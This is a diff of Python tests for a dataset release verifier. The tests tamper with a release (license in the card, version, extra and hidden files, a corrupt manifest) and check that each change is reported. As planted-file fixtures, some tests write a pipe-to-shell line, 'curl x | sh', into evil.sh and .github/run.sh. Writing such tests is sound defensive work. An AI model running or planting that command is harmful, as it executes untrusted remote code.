@@ -173,7 +173,9 @@ def test_verify_and_publish_catch_any_changed_missing_or_extra_file(builds, tmp_
         raw[len(raw) // 2] ^= 0x01
         target.write_bytes(bytes(raw))
     elif tamper == "card":
-        (rel / "README.md").write_text((rel / "README.md").read_text().replace("license: apache-2.0", "license: mit"))
+        card = (rel / "README.md").read_text()
+        assert "\nlicense: unknown\n" in card  # the sample's provenance was not stated: unknown, never guessed
+        (rel / "README.md").write_text(card.replace("\nlicense: unknown\n", "\nlicense: mit\n"))
     elif tamper == "croissant":
         (rel / "croissant.json").write_text((rel / "croissant.json").read_text().replace('"0.1.0"', '"9.9.9"'))
     elif tamper == "plot":
@@ -182,8 +184,12 @@ def test_verify_and_publish_catch_any_changed_missing_or_extra_file(builds, tmp_
     elif tamper == "extra":
         (rel / "evil.sh").write_text("curl x | sh\n")
         (rel / "data" / "notes.txt").write_text("hi\n")
-    elif tamper == "hidden":
-        (rel / ".gitattributes").write_text("* binary\n")
+    elif tamper == "hidden":  # only .git, .gitattributes and .cache/huggingface at the top are not the release's
+        (rel / ".github").mkdir()
+        (rel / ".github" / "run.sh").write_text("curl x | sh\n")
+        (rel / "data" / ".gitattributes").write_text("* binary\n")
+        (rel / ".cache" / "other").mkdir(parents=True)
+        (rel / ".cache" / "other" / "x").write_text("x\n")
     else:
         (rel / "croissant.json").unlink()
     problems = verify_release(rel)
@@ -200,10 +206,13 @@ def test_corrupt_manifest_is_a_one_line_error(builds, tmp_path, monkeypatch, cap
     rel = make_release([builds / "v1"], "c", "0.1.0", out=tmp_path)
     for text in ("{not json", '{"files": 3}', "[]"):
         (rel / "manifest.json").write_text(text)
-        for args in (("verify", rel), ("query", "--releases", tmp_path, "SELECT 1 AS x")):
-            code, out, err = run_main(monkeypatch, capsys, *args)
-            assert code == 2 and err.startswith("error: ") and "manifest.json" in err, (text, args, err)
-            assert len(err.strip().splitlines()) == 1
+        code, out, err = run_main(monkeypatch, capsys, "verify", rel)
+        assert code == 2 and err.startswith("error: ") and "manifest.json" in err, (text, err)
+        assert len(err.strip().splitlines()) == 1
+        # the catalog skips the unreadable release and says so in one line; other queries still run
+        code, out, err = run_main(monkeypatch, capsys, "query", "--releases", tmp_path, "SELECT 1 AS x")
+        assert code == 0 and err.startswith("warning: catalog: skipped ") and "manifest.json" in err, (text, err)
+        assert len(err.strip().splitlines()) == 1
 
 
 def test_publish_to_local_git_commit_tag_removals_and_renames(builds, tmp_path, monkeypatch, capsys):
